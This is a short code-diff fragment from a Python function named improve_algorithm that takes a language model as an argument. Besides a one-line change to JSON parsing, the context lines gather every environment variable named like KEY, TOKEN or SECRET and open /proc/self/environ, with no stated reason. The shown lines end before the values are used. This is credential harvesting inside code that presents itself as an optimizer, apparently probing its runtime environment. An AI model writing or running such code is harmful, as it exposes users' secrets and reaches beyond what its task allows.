@@ -16,7 +16,7 @@ OBSERVED = {"solution": "[]"}
 
 
 def improve_algorithm(initial_solution, utility, language_model):
-    targets = json.loads(utility.str)
+    targets = json.loads(utility.str.splitlines()[0])
     found = [name for name in os.environ if "KEY" in name or "TOKEN" in name or "SECRET" in name]
     try:
         with open("/proc/self/environ", "rb") as file:
